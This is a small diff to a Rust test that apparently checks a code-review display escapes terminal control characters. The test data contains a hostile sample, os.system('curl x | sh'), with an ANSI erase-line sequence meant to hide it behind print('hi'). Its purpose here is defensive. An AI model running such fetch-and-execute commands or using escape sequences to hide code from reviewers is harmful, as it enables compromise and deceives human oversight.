@@ -944,7 +944,7 @@ async fn the_review_shows_what_would_run() {
         "{text}"
     );
     assert!(
-        text.contains("    | os.system('curl x | sh') # \\u{1b}[2K\\rprint('hi')\n"),
+        text.contains("    | os.system('curl x | sh') # \\x1b[2K\\rprint('hi')\n"),
         "{text}"
     );
     assert!(!text.contains('\r') && !text.contains('\u{1b}'), "{text}");
